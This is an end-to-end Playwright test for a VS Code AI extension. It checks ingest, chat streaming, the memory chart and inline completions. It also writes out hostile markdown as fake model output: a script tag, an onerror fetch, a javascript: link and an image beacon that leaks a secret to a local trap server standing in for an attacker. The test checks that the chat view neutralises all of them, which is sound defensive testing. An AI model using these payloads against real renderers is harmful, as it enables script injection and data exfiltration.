// End-to-end test in a real VS Code (code-server 4.100.3, offline) driven by Playwright + Debian chromium.
// Needs `bash test/e2e/install.sh` and a packaged .vsix (`npm run package`); `npm run test:e2e` does all three.
// Steps: trust the workspace and watch the status-bar gauge change during ingest; Ask About Codebase and see
// the streamed answer in the sidebar chat; open the memory panel and see its chart; type in a file and accept
// an inline completion; render hostile model output in the chat and check nothing runs and nothing is fetched.
// No `sidewinder.model` setting: like a fresh install, it runs the model bundled in the .vsix (models/default),
// and checks from the extension's log that it did. The sample workspace is three tiny files (~70 tokens), so
// the whole run takes well under a minute on a 2-core CPU with lavapipe.
// Screenshots and the extension's log go to test/e2e/artifacts/. Ends with `N passed, M failed`.

import { spawn, execFileSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as http from 'node:http';
import * as os from 'node:os';
import * as path from 'node:path';
import { createRequire } from 'node:module';

const here = path.dirname(new URL(import.meta.url).pathname);
const repo = path.resolve(here, '..', '..');
const tools = path.join(here, '.tools', 'node_modules');
const require = createRequire(path.join(tools, 'x.js'));
const { chromium } = require('playwright-core');
const codeServer = path.join(tools, '.bin', 'code-server');
const artifacts = path.join(here, 'artifacts');
fs.mkdirSync(artifacts, { recursive: true });

const vsix = fs.readdirSync(repo).filter((f) => f.endsWith('.vsix')).map((f) => path.join(repo, f))[0];
if (!vsix) throw new Error('no .vsix in the repository root: run `npm run package` first.');

// A fresh profile, extensions dir and sample workspace (removed at the end).
const tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'sw-e2e-'));
const userData = path.join(tmp, 'user');
const extDir = path.join(tmp, 'ext');
const ws = path.join(tmp, 'workspace');
fs.mkdirSync(path.join(userData, 'User'), { recursive: true });
fs.mkdirSync(path.join(ws, 'src'), { recursive: true });
fs.writeFileSync(path.join(ws, 'src', 'alpha.py'), 'def alpha(x):\n    """Adds one."""\n    return x + 1\n');
fs.writeFileSync(path.join(ws, 'src', 'beta.ts'), 'export function beta(s: string): string {\n  return s.trim();\n}\n');
fs.writeFileSync(path.join(ws, 'notes.md'), '# Notes\n\nalpha is in src/alpha.py.\n');
// No `sidewinder.model`: the bundled model is used, as on a fresh install.
fs.writeFileSync(
  path.join(userData, 'User', 'settings.json'),
  JSON.stringify({
    'sidewinder.completion.debounceMs': 50,
    'sidewinder.completion.maxTokens': 6,
    'sidewinder.chat.maxAnswerTokens': 12,
    'workbench.startupEditor': 'none',
    'extensions.autoCheckUpdates': false,
    'extensions.autoUpdate': false,
    'telemetry.telemetryLevel': 'off',
  }),
);

// A local server stands in for an attacker's host: any request to it means model output leaked data.
let leaks = 0;
const trap = http.createServer((req, res) => {
  leaks++;
  res.end('');
});
await new Promise((r) => trap.listen(0, '127.0.0.1', r));
const trapUrl = `http://127.0.0.1:${trap.address().port}`;
const hostile = path.join(tmp, 'hostile.md');
fs.writeFileSync(
  hostile,
  [
    'Here is the answer.',
    '',
    `<img src=x onerror="window.__pwned = 1; fetch('${trapUrl}/onerror')">`,
    '',
    `<script>window.__pwned = 2; fetch('${trapUrl}/script')</script>`,
    '',
    '[click me](javascript:window.__pwned=3)',
    '',
    `![leak](${trapUrl}/leak.png?secret=42)`,
    '',
    '`src/alpha.py` is a file.',
  ].join('\n'),
);

execFileSync(codeServer, ['--extensions-dir', extDir, '--user-data-dir', userData, '--install-extension', vsix], { stdio: 'inherit' });

const port = 20000 + Math.floor(Math.random() * 20000);
const server = spawn(
  codeServer,
  ['--auth', 'none', '--bind-addr', `127.0.0.1:${port}`, '--disable-telemetry', '--disable-update-check', '--user-data-dir', userData, '--extensions-dir', extDir, ws],
  { env: { ...process.env, SIDEWINDER_E2E: '1', SIDEWINDER_E2E_MARKDOWN: hostile }, stdio: ['ignore', 'pipe', 'pipe'], detached: true },
);
const serverLog = fs.createWriteStream(path.join(artifacts, 'code-server.log'));
server.stdout.pipe(serverLog);
server.stderr.pipe(serverLog);

const results = [];
let browser;
let page;
async function step(name, fn) {
  const t0 = Date.now();
  try {
    await fn();
    results.push([name, true]);
    console.log(`PASS ${name} (${((Date.now() - t0) / 1000).toFixed(1)} s)`);
  } catch (e) {
    results.push([name, false]);
    console.log(`FAIL ${name}: ${e?.stack ?? e}`);
  }
  if (page) await page.screenshot({ path: path.join(artifacts, `${results.length}-${name.replace(/[^a-z0-9]+/gi, '-')}.png`) }).catch(() => {});
}

async function command(title) {
  await page.keyboard.press('Escape');
  await page.keyboard.press('Control+Shift+P');
  const input = page.locator('.quick-input-widget:visible input');
  await input.waitFor({ state: 'visible', timeout: 15000 });
  await input.fill('>' + title);
  await page.locator('.quick-input-list .monaco-list-row', { hasText: title }).first().waitFor({ timeout: 15000 });
  await input.press('Enter');
}

/** The extension's log (its LogOutputChannel, written under the profile's logs folder), or ''. */
function extensionLog() {
  const found = [];
  const walk = (d) => {
    for (const e of fs.readdirSync(d, { withFileTypes: true })) {
      const p = path.join(d, e.name);
      if (e.isDirectory()) walk(p);
      else if (e.name === 'Sidewinder.log') found.push(p);
    }
  };
  try {
    walk(path.join(userData, 'logs'));
  } catch {
    return '';
  }
  return found.map((f) => fs.readFileSync(f, 'utf8')).join('\n');
}

async function frameWith(selector, timeoutMs = 60000) {
  const deadline = Date.now() + timeoutMs;
  while (Date.now() < deadline) {
    for (const f of page.frames()) if (await f.locator(selector).count().catch(() => 0)) return f;
    await page.waitForTimeout(250);
  }
  throw new Error(`no webview frame shows ${selector}`);
}

try {
  // Wait for the server.
  for (let i = 0; ; i++) {
    try {
      await new Promise((res, rej) => http.get(`http://127.0.0.1:${port}/healthz`, (r) => (r.resume(), res())).on('error', rej));
      break;
    } catch {
      if (i > 120) throw new Error('code-server did not start; see test/e2e/artifacts/code-server.log');
      await new Promise((r) => setTimeout(r, 500));
    }
  }
  browser = await chromium.launch({
    executablePath: '/usr/bin/chromium',
    args: ['--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking', '--disable-component-update', '--disable-sync'],
  });
  page = await browser.newPage({ viewport: { width: 1400, height: 900 } });
  await page.goto(`http://127.0.0.1:${port}/?folder=${encodeURIComponent(ws)}`);
  await page.waitForSelector('.monaco-workbench', { timeout: 90000 });

  await step('trust, ingest and the status-bar gauge', async () => {
    // Record every text the gauge shows (a status-bar item with a codicon whose text is the product name, an
    // ingest progress or a memory total): ingest of this tiny workspace is over in about a second, too quick
    // to catch by polling.
    await page.evaluate(() => {
      const texts = (window.__gaugeTexts = []);
      const gauge = /^(Sidewinder|\d+% · .*tok|[\d.,]+[KM]? tok|[\d.]+ [KMG]?B)$/;
      const record = () => {
        for (const item of document.querySelectorAll('.statusbar-item')) {
          if (!item.querySelector('.codicon')) continue;
          const t = item.innerText.trim();
          if (gauge.test(t) && texts[texts.length - 1] !== t) texts.push(t);
        }
      };
      record();
      new MutationObserver(record).observe(document.querySelector('.part.statusbar') ?? document.body, { childList: true, subtree: true, characterData: true });
    });
    await page.getByRole('button', { name: 'Yes, I trust the authors' }).click({ timeout: 60000 });
    // Wait for an ingest state (`N% · T tok`) followed by a memory total with its unit (`65 MB`).
    const isIngest = (t) => /tok$/.test(t);
    const isTotal = (t) => /^\d+(\.\d+)? [KMG]?B$/.test(t);
    const deadline = Date.now() + 240000;
    let texts = [];
    let final = '';
    let during = false;
    while (Date.now() < deadline) {
      texts = await page.evaluate(() => window.__gaugeTexts);
      const i = texts.findIndex(isIngest);
      if (i >= 0 && !during) {
        during = true; // ingest under way (or just over): a picture of the gauge at that moment, when in time
        await page.screenshot({ path: path.join(artifacts, '1a-the-gauge-during-ingest.png') }).catch(() => {});
      }
      final = i >= 0 ? (texts.slice(i + 1).findLast(isTotal) ?? '') : '';
      if (final) break;
      await page.waitForTimeout(200);
    }
    console.log(`  gauge texts seen: ${texts.join(' | ')}`);
    if (!texts.some(isIngest)) throw new Error(`the gauge showed no ingest progress (saw: ${texts.join(' | ')})`);
    if (!final) throw new Error(`the gauge showed no memory total after ingest (saw: ${texts.join(' | ')})`);
    // The engine ran the model bundled in the installed extension, not one from elsewhere.
    let started = '';
    for (let i = 0; i < 40 && !started; i++) {
      started = extensionLog().split('\n').find((l) => l.includes('starting the engine')) ?? '';
      if (!started) await page.waitForTimeout(250);
    }
    console.log(`  ${started.replace(/^.*?\[info\] /, '')}`);
    const bundled = started.match(/ on (\S+)$/)?.[1] ?? '';
    if (!bundled.startsWith(extDir + path.sep) || !bundled.endsWith(path.join('models', 'default'))) {
      throw new Error(`the engine did not start on the bundled model in ${extDir} (log: ${JSON.stringify(started)})`);
    }
  });

  await step('Ask About Codebase streams an answer into the sidebar chat', async () => {
    // Open the chat first and record every state of the newest answer, to see it grow as tokens arrive.
    await command('Sidewinder: Focus on Chat View');
    const chat = await frameWith('#log');
    await chat.evaluate(() => {
      const log = document.getElementById('log');
      const states = (window.__answerStates = []);
      const record = () => {
        const answers = log.querySelectorAll('.answer');
        const text = answers.length ? answers[answers.length - 1].textContent.trim() : '';
        if (text && states[states.length - 1] !== text) states.push(text);
      };
      new MutationObserver(record).observe(log, { childList: true, subtree: true, characterData: true });
    });
    await command('Sidewinder: Ask About Codebase');
    const input = page.locator('.quick-input-widget:visible input');
    await input.waitFor({ state: 'visible', timeout: 15000 });
    await input.fill('Where is alpha defined?');
    await input.press('Enter');
    await chat.locator('.answer').last().waitFor({ timeout: 120000 });
    // Done when the Stop button is disabled again and an answer is there.
    const deadline = Date.now() + 180000;
    let done = false;
    let states = [];
    while (Date.now() < deadline) {
      ({ done, states } = await chat.evaluate(() => ({ done: document.getElementById('stop').disabled === true, states: window.__answerStates })));
      if (done && states.length > 0) break;
      await page.waitForTimeout(100);
    }
    const text = states[states.length - 1] ?? '';
    console.log(`  answer: ${JSON.stringify(text.slice(0, 80))}, ${states.length} states while streaming: ${JSON.stringify(states.map((t) => t.slice(0, 24)))}`);
    if (!text) throw new Error('no answer text appeared in the chat');
    if (!done) throw new Error('the answer did not finish (Stop still enabled)');
    if (states.length < 2) throw new Error(`the answer did not stream: it appeared at once (${JSON.stringify(text)})`);
    // Let the view's title bar catch up (its Stop action goes with the generating context key) for the screenshot.
    await page.locator('.action-item a[aria-label^="Stop Generation"]').waitFor({ state: 'hidden', timeout: 5000 }).catch(() => {});
  });

  await step('Show Memory opens the memory panel with a chart', async () => {
    await command('Sidewinder: Show Memory');
    const panel = await frameWith('.uplot, canvas', 60000);
    const box = await panel.locator('canvas').first().boundingBox();
    if (!box || box.width < 50 || box.height < 30) throw new Error(`chart canvas too small: ${JSON.stringify(box)}`);
  });

  await step('an inline completion appears and is accepted with Tab', async () => {
    await page.keyboard.press('Escape');
    await page.keyboard.press('Control+Shift+P');
    const input = page.locator('.quick-input-widget:visible input');
    await input.waitFor({ state: 'visible', timeout: 15000 });
    await input.fill('beta.ts');
    await page.locator('.quick-input-list .monaco-list-row', { hasText: 'beta.ts' }).first().waitFor({ timeout: 15000 });
    await input.press('Enter');
    const editor = page.locator('.monaco-editor .view-lines').first();
    await editor.waitFor({ timeout: 30000 });
    await editor.click();
    await page.keyboard.press('Control+End');
    await page.keyboard.press('Enter');
    const before = await editor.innerText();
    await page.keyboard.type('export function gamma(');
    const ghost = page.locator('.ghost-text-decoration, .ghost-text, .ghost-text-decoration-preview').first();
    let shown = false;
    for (let i = 0; i < 6 && !shown; i++) {
      try {
        await ghost.waitFor({ timeout: 20000 });
        shown = true;
      } catch {
        await page.keyboard.type(' ');
        await page.keyboard.press('Backspace');
      }
    }
    if (!shown) throw new Error('no inline suggestion appeared');
    // The document text without the ghost text (which the editor renders inside the same lines).
    const docText = () =>
      editor.evaluate((el) => {
        const copy = el.cloneNode(true);
        for (const g of copy.querySelectorAll('[class*="ghost-text"]')) g.remove();
        return copy.textContent;
      });
    const typed = await docText();
    const suggestion = (await page.locator('.monaco-editor [class*="ghost-text"]').allTextContents()).join('');
    await page.keyboard.press('Tab');
    await page.waitForTimeout(500);
    const after = await docText();
    console.log(`  suggestion ${JSON.stringify(suggestion)}, line before ${JSON.stringify(typed.slice(-40))}, after ${JSON.stringify(after.slice(-40))}`);
    if (after === typed || after === before) throw new Error('accepting the suggestion did not change the document');
    if ((await page.locator('[class*="ghost-text"]').count()) > 0 && after === typed) throw new Error('the suggestion is still a ghost');
  });

  await step('hostile model output runs nothing and fetches nothing', async () => {
    await command('Sidewinder: Render Test Markdown (end-to-end test)');
    const chat = await frameWith('#log');
    await chat.locator('.answer', { hasText: 'Here is the answer.' }).last().waitFor({ timeout: 30000 });
    await page.waitForTimeout(1500);
    const answer = chat.locator('.answer', { hasText: 'Here is the answer.' }).last();
    const pwned = await chat.evaluate(() => window.__pwned ?? 0);
    const scripts = await answer.locator('script').count();
    const imgs = await answer.locator('img').count();
    const jsLinks = await answer.locator('a[href^="javascript:"]').count();
    const html = await answer.innerHTML();
    if (pwned) throw new Error(`injected code ran (__pwned = ${pwned})`);
    if (scripts || imgs || jsLinks) throw new Error(`live elements in the answer: ${scripts} script, ${imgs} img, ${jsLinks} javascript: links`);
    if (/onerror\s*=/i.test(html.replace(/&lt;[^&]*&gt;/g, ''))) throw new Error('an onerror attribute survived');
    if (leaks > 0) throw new Error(`${leaks} request(s) reached the trap server`);
  });
} catch (e) {
  results.push(['setup', false]);
  console.log(`FAIL setup: ${e?.stack ?? e}`);
  if (page) await page.screenshot({ path: path.join(artifacts, 'setup-failure.png') }).catch(() => {});
} finally {
  await browser?.close().catch(() => {});
  const exited = new Promise((r) => server.once('exit', r));
  try {
    process.kill(-server.pid, 'SIGTERM');
    await Promise.race([exited, new Promise((r) => setTimeout(r, 10000))]);
  } catch {}
  trap.close();
  // Keep the extension's log with the screenshots, then remove the profile and workspace.
  fs.writeFileSync(path.join(artifacts, 'sidewinder.log'), extensionLog());
  fs.rmSync(tmp, { recursive: true, force: true, maxRetries: 5, retryDelay: 500 });
}

const passed = results.filter(([, ok]) => ok).length;
const failed = results.length - passed;
console.log(`${passed} passed, ${failed} failed`);
process.exit(failed ? 1 : 0);
